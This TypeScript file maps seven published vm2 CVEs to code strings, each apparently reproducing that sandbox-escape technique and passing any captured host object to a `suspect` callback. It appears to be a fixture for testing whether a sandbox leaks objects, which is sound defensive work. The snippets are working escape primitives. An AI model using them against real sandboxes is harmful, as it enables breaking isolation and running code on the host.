/**
 * Techniques of the published escapes from vm2 up to its first end, by their number: bodies of an async function that
 * hands to `suspect` whatever the technique gets hold of.
 *
 * @see https://github.com/patriksimek/vm2/security/advisories
 */
export const publishedUpTo2023 = {
  'CVE-2022-36067, frames for an Error of its own': `
    const Original = Error;
    globalThis.Error = { prepareStackTrace: (error, frames) => frames.forEach((frame) => { suspect(frame); suspect(frame.getThis()); suspect(frame.getFunction()); }) };
    const { stack } = new Original();
    globalThis.Error = Original;
    suspect(stack);`,
  'CVE-2023-29017, frames of an error that nobody handles': `
    Error.prepareStackTrace = (error, frames) => { suspect(error); suspect(frames); frames.forEach((frame) => suspect(frame)); };
    (async () => {}).constructor('return 1');
    (async () => { null.left; })();
    await new Promise((done) => setTimeout(done, 10));`,
  'CVE-2023-29199, a name that the rewriting of catch uses': `
    Error.stackTraceLimit = 1;
    const deep = () => { new Error().stack; deep(); };
    try { deep(); } catch (a$tmpname) { suspect(a$tmpname); }
    try { deep(); } catch ({ constructor, message, ...others }) { suspect(constructor); suspect(others); }`,
  'CVE-2023-30547, a proxy whose prototype overflows the stack': `
    Error.stackTraceLimit = 1;
    const deep = () => { new Error().stack; deep(); };
    const thrown = new Proxy({}, { getPrototypeOf: () => deep() });
    try { throw thrown; } catch ({ constructor }) { suspect(constructor); }
    try { thrown instanceof Error; } catch (error) { suspect(error); }`,
  'CVE-2023-32314, a proxy that is called to name an error': `
    const called = { apply: (target, self, args) => { suspect(args); suspect(args.constructor); suspect(self); return 'name'; } };
    const error = new Error();
    error.name = { toString: new Proxy(() => '', called) };
    suspect(error.stack);`,
  'CVE-2023-37466, a species that is handed what a promise rejects with': `
    Error.stackTraceLimit = 1;
    const deep = () => { new Error().stack; deep(); };
    const rejecting = (async () => deep())();
    class Caught { constructor(execute) { execute((value) => suspect(value), (error) => suspect(error)); } }
    rejecting.constructor = { [Symbol.species]: Caught };
    try { rejecting.then(); } catch (error) { suspect(error); }
    await new Promise((done) => setTimeout(done, 10));`,
  'CVE-2023-37903, an inspection of its own': `
    const shown = { [Symbol.for('nodejs.util.inspect.custom')]: (...given) => { given.forEach((each) => suspect(each)); return ''; }, valueOf: undefined, constructor: undefined };
    try { await WebAssembly.compileStreaming(shown); } catch (error) { suspect(error); }
    try { new URL(shown); } catch (error) { suspect(error); }
    try { Buffer.from(shown); } catch (error) { suspect(error); }
    try { console.log(shown); } catch (error) { suspect(error); }
    try { atob(shown); } catch (error) { suspect(error); }
    (async () => { throw shown; })();`,
} satisfies Record<string, string>;
